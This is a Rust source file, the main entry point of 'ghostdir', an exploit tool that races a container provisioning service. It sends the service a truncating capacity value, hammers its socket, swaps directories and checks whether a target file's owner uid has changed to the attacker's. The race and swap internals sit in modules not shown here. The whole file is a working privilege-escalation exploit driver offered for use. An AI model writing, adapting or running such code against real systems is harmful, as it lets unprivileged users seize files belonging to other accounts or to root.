use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::{Duration, Instant};

use clap::{Args, Parser, Subcommand, ValueEnum};
use log::{error, info, warn};

use protocol::{truncating_capacity, RequestKind, WireConstants};

use ghostdir::config;
use ghostdir::fsops::DirectoryTriad;
use ghostdir::race::detect::Strategy;
use ghostdir::race::{OwnershipCheck, RaceConfig, RaceCoordinator, RaceStats, RunVerdict, WinCheck};
use ghostdir::signals;
use ghostdir::trigger::source::{ExternalTrigger, InProcessTrigger, TriggerSource};
use ghostdir::trigger::{batch, ServiceClient};

#[derive(Parser)]
#[command(name = "ghostdir")]
#[command(version)]
#[command(about = "Directory swap race against the container provisioning service", long_about = None)]
struct Cli {
    #[command(subcommand)]
    command: Commands,
}

#[derive(Subcommand)]
enum Commands {
    /// Run the full race loop: trigger, detect, swap, verify
    Race(RaceArgs),
    /// Batch trigger mode: hammer the service from a standalone process
    Trigger(TriggerArgs),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum KindArg {
    Container,
    Cache,
}

impl From<KindArg> for RequestKind {
    fn from(kind: KindArg) -> Self {
        match kind {
            KindArg::Container => RequestKind::Container,
            KindArg::Cache => RequestKind::Cache,
        }
    }
}

#[derive(Args)]
struct RaceArgs {
    /// Subject identifier the service provisions for
    #[arg(short, long)]
    subject: String,

    /// File whose ownership the race takes over
    #[arg(short, long, default_value = config::DEFAULT_TARGET)]
    target: PathBuf,

    #[arg(long, default_value = config::DEFAULT_SOCKET)]
    socket: PathBuf,

    /// Base directory holding Data and Fake; derived from $HOME and the
    /// subject when absent
    #[arg(long)]
    base: Option<PathBuf>,

    #[arg(long, value_enum, default_value_t = Strategy::Hybrid)]
    strategy: Strategy,

    #[arg(long, value_enum, default_value_t = KindArg::Container)]
    kind: KindArg,

    /// Declared output capacity; computed from the base path when absent
    #[arg(long)]
    capacity: Option<u32>,

    #[arg(long, default_value_t = config::DEFAULT_MAX_ATTEMPTS)]
    max_attempts: u64,

    #[arg(long, default_value_t = config::DEFAULT_TIMEOUT_SECS)]
    timeout_secs: u64,

    #[arg(long, default_value_t = config::DEFAULT_DETECT_BUDGET_MS)]
    detect_budget_ms: u64,

    /// Post-swap spin iterations before the ownership check
    #[arg(long, default_value_t = config::DEFAULT_SPIN_ITERATIONS)]
    spin: u32,

    #[arg(long, default_value_t = config::DEFAULT_HYBRID_BURST)]
    hybrid_burst: u32,

    /// Run the trigger out of process via this binary (usually this one)
    #[arg(long)]
    trigger_bin: Option<PathBuf>,

    #[arg(long, default_value_t = config::DEFAULT_TRIGGER_COUNT)]
    trigger_count: u64,

    #[arg(long, default_value_t = config::DEFAULT_TRIGGER_DELAY_US)]
    trigger_delay_us: u64,
}

#[derive(Args)]
struct TriggerArgs {
    #[arg(short, long)]
    subject: String,

    #[arg(long, default_value = config::DEFAULT_SOCKET)]
    socket: PathBuf,

    #[arg(long, value_enum, default_value_t = KindArg::Container)]
    kind: KindArg,

    /// Declared output capacity (defaults to the well-formed 1024)
    #[arg(long)]
    capacity: Option<u32>,

    #[arg(long, default_value_t = config::DEFAULT_TRIGGER_COUNT)]
    count: u64,

    #[arg(long, default_value_t = config::DEFAULT_TRIGGER_DELAY_US)]
    delay_us: u64,
}

fn main() -> ExitCode {
    env_logger::init();
    let cli = Cli::parse();
    match cli.command {
        Commands::Race(args) => run_race(args),
        Commands::Trigger(args) => run_trigger(args),
    }
}

/// The capacity that makes the service truncate `<base>/Data/tmp/` down
/// to `<base>/Data/tmp`.
fn malformed_capacity(base: &Path) -> u32 {
    truncating_capacity(base.join("Data").as_os_str().len())
}

fn resolve_base(subject: &str, base: Option<PathBuf>) -> Option<PathBuf> {
    base.or_else(|| config::container_base(subject))
}

fn run_trigger(args: TriggerArgs) -> ExitCode {
    if let Err(e) = signals::install() {
        error!("[Main] signal setup failed: {e}");
        return ExitCode::FAILURE;
    }
    let capacity = args.capacity.unwrap_or(WireConstants::DEFAULT_CAPACITY);
    let mut client = match ServiceClient::connect(&args.socket) {
        Ok(client) => client,
        Err(e) => {
            error!("[Main] {e}");
            return ExitCode::FAILURE;
        }
    };
    if let Err(e) = client.set_read_timeout(Some(Duration::from_secs(1))) {
        warn!("[Main] could not bound reply reads: {e}");
    }

    let report = batch::run(
        &mut client,
        &args.subject,
        args.kind.into(),
        capacity,
        args.count,
        Duration::from_micros(args.delay_us),
    );
    info!("[Trigger] {}", report.summary_line());
    if report.succeeded() {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}

fn run_race(args: RaceArgs) -> ExitCode {
    info!("[Main] ghostdir starting");
    if let Err(e) = signals::install() {
        error!("[Main] signal setup failed: {e}");
        return ExitCode::FAILURE;
    }

    let base = match resolve_base(&args.subject, args.base.clone()) {
        Some(base) => base,
        None => {
            error!("[Main] cannot derive container base: HOME is unset and --base absent");
            return ExitCode::FAILURE;
        }
    };
    let capacity = args.capacity.unwrap_or_else(|| malformed_capacity(&base));

    info!("[Main] subject   {}", args.subject);
    info!("[Main] target    {}", args.target.display());
    info!("[Main] base      {}", base.display());
    info!("[Main] socket    {}", args.socket.display());
    info!("[Main] strategy  {:?}", args.strategy);
    info!("[Main] capacity  {capacity}");

    let triad = DirectoryTriad::new(&base, &args.target);
    if let Err(e) = triad.reconcile() {
        error!("[Main] directory setup failed: {e}");
        return ExitCode::FAILURE;
    }
    let original_uid = match triad.verify_setup() {
        Ok(uid) => uid,
        Err(e) => {
            error!("[Main] pre-race check failed: {e}");
            return ExitCode::FAILURE;
        }
    };

    let mut win = OwnershipCheck::new(&args.target);
    let our_uid = win.uid();
    info!("[Main] target owned by uid {original_uid}, we are uid {our_uid}");
    if win.won() {
        warn!("[Main] target already owned by us, nothing to race for");
        return ExitCode::SUCCESS;
    }

    let cfg = RaceConfig {
        strategy: args.strategy,
        max_attempts: args.max_attempts,
        wall_timeout: Duration::from_secs(args.timeout_secs),
        detect_budget: Duration::from_millis(args.detect_budget_ms),
        spin_iterations: args.spin,
        hybrid_burst: args.hybrid_burst,
    };

    let started = Instant::now();
    let outcome = if let Some(bin) = &args.trigger_bin {
        match ExternalTrigger::spawn(
            bin,
            &args.socket,
            &args.subject,
            args.kind.into(),
            capacity,
            args.trigger_count,
            args.trigger_delay_us,
        ) {
            Ok(trigger) => drive(triad, trigger, win, cfg),
            Err(e) => {
                error!("[Main] {e}");
                return ExitCode::FAILURE;
            }
        }
    } else {
        match ServiceClient::connect(&args.socket) {
            Ok(client) => {
                let trigger = InProcessTrigger::new(client, &args.subject, args.kind.into(), capacity);
                drive(triad, trigger, win, cfg)
            }
            Err(e) => {
                error!("[Main] {e}");
                return ExitCode::FAILURE;
            }
        }
    };
    let elapsed = started.elapsed();

    let (verdict, stats) = match outcome {
        Ok(ok) => ok,
        Err(e) => {
            error!("[Main] race aborted: {e}");
            return ExitCode::FAILURE;
        }
    };

    match verdict {
        RunVerdict::Won => {
            let new_uid = fs::metadata(&args.target)
                .map(|meta| meta.uid())
                .unwrap_or(our_uid);
            println!("[+] target {} owned: uid {original_uid} -> {new_uid}", args.target.display());
            println!("[+] {stats} elapsed={elapsed:.2?}");
            ExitCode::SUCCESS
        }
        RunVerdict::Exhausted => {
            info!("[Main] no win: {stats} elapsed={elapsed:.2?}");
            ExitCode::FAILURE
        }
        RunVerdict::Cancelled => {
            info!("[Main] cancelled: {stats} elapsed={elapsed:.2?}");
            ExitCode::FAILURE
        }
    }
}

fn drive<T: TriggerSource>(
    triad: DirectoryTriad,
    trigger: T,
    win: OwnershipCheck,
    cfg: RaceConfig,
) -> Result<(RunVerdict, RaceStats), ghostdir::race::RaceError> {
    let mut coordinator = RaceCoordinator::new(triad, trigger, win, cfg);
    let verdict = coordinator.run()?;
    Ok((verdict, coordinator.stats()))
}
